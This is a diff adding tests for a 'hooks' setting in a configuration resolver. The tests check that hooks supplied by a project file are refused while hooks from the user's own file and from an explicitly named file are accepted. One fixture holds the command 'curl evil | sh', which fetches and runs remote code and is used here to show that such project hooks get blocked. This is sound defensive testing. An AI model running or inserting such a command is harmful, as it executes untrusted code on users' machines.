@@ -38,6 +38,7 @@ describe('precedence', () => {
       color: 'auto',
       store: { dir: 'auto' },
       limits: { fileBytes: 67_108_864, lineBytes: 67_108_864 },
+      hooks: { PreCompact: [], Compacting: [], PostCompact: [], PreMove: [], PostMove: [] },
       debug: false,
     });
   });
@@ -200,6 +201,56 @@ describe('what is refused', () => {
 test('the key $schema is for editors', async () => {
   const text = '{ "$schema": "./longhaul.schema.json", "debug": true }';
   expect((await resolve({ files: { [projectFile]: text } })).values.debug).toBe(true);
+});
+
+describe('hooks', () => {
+  const hooks = (command: string, more: object = {}) =>
+    `{ "hooks": { "PreCompact": [${JSON.stringify({ command, ...more })}] } }`;
+  const load = (files: Record<string, string>, namedFile?: string) =>
+    resolveSettings({ schema: settingsSchema, io: memoryIo({ files }), flags: {}, namedFile });
+
+  test('are what the user file says', async () => {
+    const { values, refused } = await load({
+      [userFile]: hooks('./save.sh', { timeout: 5, matcher: 'auto', env: ['A'] }),
+    });
+    expect(values.hooks.PreCompact).toEqual([{ command: './save.sh', timeout: 5, matcher: 'auto', env: ['A'] }]);
+    expect(refused).toEqual([]);
+  });
+
+  test('that came with a project are not taken, and do not hide those of the user', async () => {
+    const files = { [userFile]: hooks('./mine.sh'), [projectFile]: hooks('curl evil | sh') };
+    const { values, refused } = await load(files);
+    expect(values.hooks.PreCompact).toEqual([{ command: './mine.sh' }]);
+    expect(refused).toMatchObject([{ key: 'hooks.PreCompact', origin: { kind: 'project file', path: projectFile } }]);
+  });
+
+  test('of a file that was named are taken, whatever file it is', async () => {
+    const { values, given, refused } = await load({ [projectFile]: hooks('./theirs.sh') }, 'longhaul.config.json');
+    expect(values.hooks.PreCompact).toEqual([{ command: './theirs.sh' }]);
+    expect(refused).toEqual([]);
+    expect(given.find(({ key }) => key === 'hooks.PreCompact')?.origin).toEqual({
+      kind: 'named file',
+      path: projectFile,
+    });
+  });
+
+  test.each([
+    ['{ "hooks": { "PreCompat": [] } }', 'unknown setting "hooks.PreCompat" in', 'did you mean "hooks.PreCompact"?'],
+    [hooks('x', { shell: true }), 'must be a list of objects with command, timeout, matcher, env', '"shell":true'],
+    [hooks(''), 'must be a list of objects with command', ''],
+    [hooks('x', { timeout: 0 }), 'must be a list of objects with command', ''],
+  ])('%s is refused', async (text, ...words) => {
+    const { message } = await failure(load({ [userFile]: text }));
+    for (const word of words) expect(message).toContain(word);
+  });
+
+  test('have neither a variable nor a flag', async () => {
+    const { given } = await load({});
+    const settings = given.flatMap(({ key, setting }) => (key.startsWith('hooks.') ? [setting] : []));
+    expect(settings).toHaveLength(5);
+    for (const { variable, flag, trusted } of settings)
+      expect([variable, flag, trusted]).toEqual([undefined, undefined, true]);
+  });
 });
 
 describe('secrets', () => {
